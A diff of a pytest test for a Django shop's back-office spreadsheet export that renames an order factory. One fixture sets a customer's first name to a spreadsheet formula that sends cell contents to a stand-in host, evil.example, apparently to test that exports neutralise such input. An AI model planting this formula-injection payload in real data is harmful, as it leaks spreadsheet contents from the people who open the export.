@@ -11,7 +11,7 @@ from openpyxl import load_workbook
 from checkout.backoffice.exports import safe_text
 from checkout.models import Order
 
-from .factories import order_with_lines, user_in_group
+from .factories import make_order, user_in_group
 
 pytestmark = pytest.mark.django_db
 
@@ -31,8 +31,8 @@ def manager(client, django_user_model):
 
 @pytest.fixture
 def orders(shop):
-    ana = order_with_lines([(shop["kettle"], 2), (shop["mug"], 1)], number="SF-000001")
-    mallory = order_with_lines(
+    ana = make_order([(shop["kettle"], 2), (shop["mug"], 1)], number="SF-000001")
+    mallory = make_order(
         [(shop["mug"], 1)],
         number="SF-000002",
         first_name='=HYPERLINK("http://evil.example/?"&A1,"Click")',
